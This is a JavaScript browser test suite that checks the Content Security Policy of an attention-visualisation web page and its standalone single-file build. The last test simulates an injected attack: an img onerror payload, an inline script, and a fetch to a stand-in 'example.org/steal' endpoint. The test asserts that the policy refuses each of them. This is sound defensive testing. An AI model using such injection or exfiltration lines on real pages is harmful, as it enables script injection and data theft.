// The Content Security Policy of the page (web/index.html) and of the single file
// (tools/build-single-file.mjs): with it, everything a reader does still works — the engine, the
// worker for large inputs, every export — without one violation, and what the policy is for
// (inline script, other origins) is refused; neither policy allows eval. Needs the built site (`npx vite build`).
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { pathToFileURL } from 'node:url';

import { baseUrl, dist, launchChromium, screenshots, serveStatic, openSettings, saveScreenshot } from './harness.mjs';

let server;
let browser;
before(async () => {
  mkdirSync(screenshots, { recursive: true });
  server = await serveStatic(dist);
  browser = await launchChromium();
});
after(async () => {
  await browser?.close();
  await new Promise((resolve) => server?.close(resolve) ?? resolve());
});

const singleFile = pathToFileURL(path.join(dist, 'attention-playground-standalone.html')).href;

// A page whose policy violations are all noted: the `securitypolicyviolation` events of every
// frame, and what Chromium logs for them (the only trace of one in a worker).
async function policedPage(url) {
  const context = await browser.newContext({ viewport: { width: 1280, height: 900 }, acceptDownloads: true });
  await context.addInitScript(() => {
    const seen = [];
    Object.defineProperty(globalThis, '__violations', { value: seen });
    addEventListener('securitypolicyviolation', (e) => seen.push(`${e.effectiveDirective}: ${e.blockedURI} (${e.sourceFile}:${e.lineNumber})`));
  });
  const logged = [];
  const errors = [];
  const read = (message) => {
    if (/Content Security Policy/i.test(message.text())) logged.push(message.text());
    else if (message.type() === 'error') errors.push(message.text());
  };
  const page = await context.newPage();
  page.on('console', read);
  page.on('worker', (worker) => worker.on('console', read));
  page.on('pageerror', (error) => errors.push(`pageerror: ${error.message}`));
  await page.goto(url);
  const violations = async () => [...logged, ...(await page.evaluate(() => globalThis.__violations))];
  return { page, errors, violations, close: () => context.close() };
}

const policyOf = (page) => page.$eval('meta[http-equiv="Content-Security-Policy"]', (meta) => meta.content);

async function download(page, action) {
  const [file] = await Promise.all([page.waitForEvent('download'), page.click(`[data-export="${action}"]`)]);
  return readFileSync(await file.path());
}

// Everything a reader does that loads something: the lesson (engine, KaTeX fonts and styles),
// each export (the PNG draws the SVG through a data: image), and an input large enough for the
// worker (300 tokens × 2 heads).
async function useEverything(page, screenshot) {
  await page.waitForSelector('section.lesson-step:not(.parked) td[data-matrix="weights"]', { timeout: 60000 });
  assert.match(await page.textContent('#engine-status'), /WebAssembly SIMD/);
  // The lesson with its formulas (KaTeX's fonts and inline styles) as the policy lets it look.
  await page.locator('section.lesson-step:not(.parked)').first().scrollIntoViewIfNeeded();
  await saveScreenshot(page, { path: path.join(screenshots, screenshot) });
  await page.click('[data-share-open="share-export"]');
  assert.match(String(await download(page, 'numpy')), /^# Attention playground/);
  assert.match(String(await download(page, 'svg')), /^<svg /);
  const png = await download(page, 'png');
  assert.deepEqual([...png.subarray(0, 4)], [137, 80, 78, 71], 'a PNG');
  assert.ok(png.length > 2000, 'a PNG with a picture in it');
  const words = Array.from({ length: 300 }, (_, i) => `w${i}`).join(' ');
  await openSettings(page);
  await page.fill('#d-model', '6');
  await page.fill('#heads', '2');
  await page.fill('#sentence', words);
  await page.waitForFunction(() => /in a background worker/.test(document.querySelector('#perf-panel .perf-facts')?.textContent ?? ''), null, {
    timeout: 60000,
  });
  await page.waitForSelector('#compute-progress', { state: 'hidden' });
}

test('the page works under its policy, with no violation, and the policy has no eval or inline script', async () => {
  const { page, errors, violations, close } = await policedPage(`${baseUrl(server)}index.html#preset=journey`);
  try {
    const policy = await policyOf(page);
    assert.match(policy, /script-src 'self' 'wasm-unsafe-eval';/);
    assert.doesNotMatch(policy, /'unsafe-eval'|script-src[^;]*'unsafe-inline'|\*/);
    await useEverything(page, 'csp-page.png');
    assert.deepEqual(await violations(), []);
    assert.deepEqual(errors, []);
  } finally {
    await close();
  }
});

test('the single file works under its own policy, opened from disk, with no violation', async () => {
  const { page, errors, violations, close } = await policedPage(`${singleFile}#preset=journey`);
  try {
    const policy = await policyOf(page);
    assert.match(policy, /script-src 'sha256-[A-Za-z0-9+/]+=*' 'wasm-unsafe-eval';/);
    assert.doesNotMatch(policy, /'unsafe-eval'|'self'|script-src[^;]*'unsafe-inline'|\*/);
    await useEverything(page, 'csp-single-file.png');
    assert.deepEqual(await violations(), []);
    assert.deepEqual(errors, []);
  } finally {
    await close();
  }
});

test('what the policy is for: injected inline script and requests to other origins are refused', async () => {
  for (const url of [`${baseUrl(server)}index.html`, singleFile]) {
    const { page, violations, close } = await policedPage(url);
    try {
      await page.waitForSelector('section.lesson-step:not(.parked) td[data-matrix="weights"]', { timeout: 60000 });
      const outcome = await page.evaluate(async () => {
        // What a script injected through some hole in the page would try.
        const holder = document.createElement('div');
        holder.innerHTML = '<img src="x" onerror="window.__ran = 1">';
        document.body.append(holder);
        const script = document.createElement('script');
        script.textContent = 'window.__ran = 2';
        document.body.append(script);
        let fetched;
        try {
          await fetch('https://example.org/steal');
          fetched = 'sent';
        } catch {
          fetched = 'refused';
        }
        await new Promise((resolve) => setTimeout(resolve, 100));
        holder.remove();
        script.remove();
        return { ran: window.__ran ?? null, fetched };
      });
      assert.deepEqual(outcome, { ran: null, fetched: 'refused' }, url);
      const seen = (await violations()).join('\n');
      for (const directive of ['script-src-attr', 'script-src-elem', 'connect-src'])
        assert.match(seen, new RegExp(`^${directive}:`, 'm'), `${url}: ${directive}`);
    } finally {
      await close();
    }
  }
});
